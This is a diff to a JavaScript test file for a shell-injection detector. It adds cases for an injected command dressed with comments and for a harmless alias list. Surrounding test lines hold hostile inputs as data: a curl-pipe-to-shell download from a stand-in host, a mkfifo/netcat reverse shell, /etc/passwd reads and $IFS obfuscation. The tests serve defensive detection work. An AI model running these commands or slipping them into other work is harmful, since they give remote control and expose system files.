@@ -638,6 +638,8 @@ t.test('shell: a whole program sent as data is code; an injection, a reverse she
   t.ok(q(`${plugin}curl -s http://evil.example/x | sh\n`).includes('rce'), 'a download run inside a program')
   t.ok(q(`${plugin}rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/p\n`).includes('rce'), 'a fifo reverse shell inside a program')
   t.ok(q('\nid; uname -a\n# x\nexport A=1\nlocal b=2\n').includes('rce'), 'a value starting with a line break is an injection')
+  t.ok(q('# setup\nexport PATH=/usr/bin\nuname -a; id').includes('rce'), 'comments and declarations alone are no program: dressing around an injected line')
+  t.same(json({ snippet: 'alias ll=\'ls -l\'\nalias la=\'ls -a\'\nalias g=git' }), [], 'an alias list stays unflagged (nothing in it runs a separator)')
   t.ok(q('x; cat /etc/passwd\n# comment\nexport A=1\n').includes('rce'), 'no structure line but one: a separator then a program')
   t.ok(q('a && id\nb').includes('rce'), 'two lines of injected commands')
   t.ok(q('${LS_COLORS:10:1}').includes('rce') || q(';${PATH:0:1}cat${IFS}/etc/passwd').includes('rce'), 'a variable slice outside a program still counts')
